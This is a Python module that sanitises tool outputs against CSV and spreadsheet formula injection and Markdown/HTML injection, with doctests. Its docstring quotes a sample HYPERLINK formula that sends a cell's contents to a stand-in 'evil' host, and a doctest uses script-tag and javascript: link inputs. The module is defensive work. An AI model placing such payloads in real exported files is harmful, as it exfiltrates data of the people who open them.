"""Outputs that cannot be turned against the person who opens them.

Labels, locality and ward names come from users' files. In a spreadsheet, a cell whose text begins
with ``=`` (or, in CSV, ``+``, ``-``, ``@``, a tab or a carriage return) can run as a formula, and
``=HYPERLINK("http://evil/?"&A2, "Details")`` sends a neighbouring cell away when clicked. So:

- every XLSX writer stores text cells as text, never as formulas (:func:`text_stays_text`);
- CSV cells of text that begin with one of those characters get a leading apostrophe, as the OWASP
  "CSV Injection" guidance recommends (:func:`csv_text`); numbers are left alone;
- Markdown output escapes what would become HTML tags, entities or links (:func:`markdown_text`).

>>> csv_text("=HYPERLINK(1)"), csv_text("-5"), csv_text("North")
("'=HYPERLINK(1)", "'-5", 'North')
"""

from __future__ import annotations

import contextlib
import logging
import re
import warnings
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

#: What a spreadsheet may read as the start of a formula (OWASP CSV Injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
log = logging.getLogger(__name__)
_HTML_START = re.compile(r"<(?=[A-Za-z/!?])")
_ENTITY = re.compile(r"&(?=#?\w+;)")


def csv_text(value: Any) -> Any:
    """A text value made inert for spreadsheets; anything that is not text is returned as is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`csv_text` applied to its text columns (numbers untouched)."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or str(out[col].dtype) in ("string", "str"):
            out[col] = out[col].map(csv_text)
    return out


def csv_row(values: list[Any]) -> list[Any]:
    """One CSV row with :func:`csv_text` applied to each cell."""
    return [csv_text(v) for v in values]


def markdown_text(text: str) -> str:
    """Text placed in Markdown, unable to open an HTML tag, spell an entity or start a link.

    >>> markdown_text("<script>alert(1)</script> [x](javascript:y) &amp; <5")
    '&lt;script>alert(1)&lt;/script> \\\\[x\\\\](javascript:y) &amp;amp; <5'
    """
    text = _ENTITY.sub("&amp;", str(text))
    text = _HTML_START.sub("&lt;", text)
    return text.replace("[", "\\[").replace("]", "\\]")


def text_stays_text(workbook: Any) -> Any:
    """Store every text cell of an openpyxl workbook as text: openpyxl turns any string that
    begins with ``=`` into a formula, so a label like ``=HYPERLINK(...)`` would become live.
    This tool writes no formulas of its own, so every formula cell is input text. Text that
    starts like a formula is also given Excel's quote prefix, so editing the cell keeps it text.
    Returns the workbook.

    >>> from openpyxl import Workbook
    >>> wb = Workbook(); wb.active["A1"] = "=1+1"
    >>> text_stays_text(wb).active["A1"].data_type
    's'
    """
    for ws in workbook.worksheets:
        # Every cell that exists, without iter_rows' making the empty ones in between.
        for cell in ws._cells.values():
            value = cell._value
            if isinstance(value, str) and value.startswith(FORMULA_START):
                cell.data_type = "s"
                cell.quotePrefix = True
    return workbook


@contextlib.contextmanager
def library_warnings_logged(what: str) -> Iterator[None]:
    """Run a drawing or saving step with its libraries' warnings (matplotlib's "Glyph ... missing
    from font", which quote install paths) sent to the log instead of stderr: the library never
    prints. Characters no bundled font can draw are named once, as one log line.

    >>> with library_warnings_logged("test"):
    ...     warnings.warn("Glyph 20013 missing from font(s) DejaVu Sans.")
    """
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        yield
    missing = [w for w in caught if "missing from font" in str(w.message)]
    if missing:
        log.info(
            "%s: %d character(s) have no glyph in the font and show as boxes", what, len(missing)
        )
    for w in caught:
        log.debug("%s: %s: %s", what, w.category.__name__, w.message)
